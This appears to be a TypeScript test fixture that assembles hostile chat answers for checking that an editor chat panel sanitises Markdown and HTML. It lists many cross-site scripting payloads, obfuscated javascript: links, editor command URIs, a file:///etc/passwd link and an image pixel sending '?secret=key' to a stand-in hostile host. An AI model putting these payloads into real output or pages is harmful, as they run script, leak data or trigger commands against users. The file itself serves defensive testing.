// Answers that try to run, load, navigate or pass for a part of the panel. Every address in them
// leads to a host that must never be asked.

import { hostileFormulas } from './hostileFormulas.ts';

const address = 'https://hostile.example';

const elements = [
  `<script>globalThis.wasRun = true</script>`,
  `<script src="${address}/x.js"></script>`,
  `<img src="${address}/x.png" onerror="globalThis.wasRun = true">`,
  `<img src=x onerror=globalThis.wasRun=true>`,
  `<svg onload="globalThis.wasRun = true"><script>globalThis.wasRun = true</script></svg>`,
  `<iframe src="${address}"></iframe>`,
  `<iframe srcdoc="<script>parent.wasRun = true</script>"></iframe>`,
  `<object data="${address}/x.swf"></object><embed src="${address}/x">`,
  `<link rel="stylesheet" href="${address}/x.css"><style>@import "${address}/y.css"; body { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${address}"><base href="${address}">`,
  `<form action="${address}"><button aria-label="Send">Send</button><input name="key"></form>`,
  `<button class="sendButton" aria-label="Stop" onclick="globalThis.wasRun = true">Stop</button>`,
  `<div role="alert" id="message-q">The key was not accepted.</div><div role="status">Answer complete</div>`,
  `<details open ontoggle="globalThis.wasRun = true"><summary>Copy Code</summary></details>`,
  `<video src="${address}/x.mp4" autoplay></video><audio src="${address}/x.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.wasRun=true></style></mglyph></table></mtext></math>`,
  `<a href="javascript:globalThis.wasRun=true">Regenerate</a>`,
  `<textarea aria-label="Message"></textarea><template><script>globalThis.wasRun = true</script></template>`,
  `<!--><script>globalThis.wasRun = true</script>-->`,
  `<![CDATA[<script>globalThis.wasRun = true</script>]]>`,
  `<?php echo "<script>globalThis.wasRun = true</script>"; ?>`,
];

const hrefs = [
  'javascript:globalThis.wasRun=true',
  'JaVaScRiPt:globalThis.wasRun=true',
  'javascript&colon;globalThis.wasRun=true',
  '&#106;avascript:globalThis.wasRun=true',
  'java&#x0A;script:globalThis.wasRun=true',
  '&#1;javascript:globalThis.wasRun=true',
  'vbscript:x',
  'data:text/html,<script>parent.wasRun=true</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'command:workbench.action.quit',
  'command:causerie.newChat?%5B%5D',
  'vscode://causerie.causerie/x',
  'vscode-resource://x',
  'file:///etc/passwd',
  'blob:null/1',
  '//hostile.example/x',
  '\\\\hostile.example\\share',
];

/** Every place where Markdown lets words stand. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `- ${text}\n- [ ] ${text}`,
  (text) => `> ${text}`,
  (text) => `| ${text} | b |\n|---|---|\n| ${text} | ${text} |`,
  (text) => `**${text}** _${text}_ ~~${text}~~ \`${text}\``,
  (text) => `[${text}](https://ok.example "${text}")`,
  (text) => `![${text}](https://hostile.example/pixel.png "${text}")`,
  (text) => `\`\`\`${text.replaceAll(/[\s`]/g, '')}\n${text}\n\`\`\``,
  (text) => `[x]: <https://ok.example> "${text}"\n\n[x] [${text}]: ${text}`,
];

export const hostileAnswers: readonly string[] = [
  ...hostileFormulas,
  ...elements.map((text) => places.map((place) => place(text)).join('\n\n')),
  ...hrefs.map((href) =>
    [
      `[Stop](${href})`,
      `[Stop](<${href}>)`,
      `![Stop](${href})`,
      `[![Stop](${href})](${href})`,
      `<${href}>`,
      href,
      `[Stop][ref] ![Stop][ref]\n\n[ref]: ${href}`,
      `| [Stop](${href}) |\n|---|\n| <${href}> |`,
    ].join('\n\n'),
  ),
  `![pixel](${address}/?secret=key)\n\n[![pixel](${address}/1)](${address}/2)\n\n![ref]\n\n[ref]: ${address}/3`,
  '[x](https://ok.example" onclick="globalThis.wasRun=true)\n\n[x](https://ok.example "a\\" onmouseover=\\"globalThis.wasRun=true")',
  '```"><script>globalThis.wasRun=true</script>\ncode\n```\n\n``` js" onclick="globalThis.wasRun=true\ncode\n```',
  '\u202E[Stop](https://ok.example)\u202C <\u0000script>globalThis.wasRun=true</script>',
];
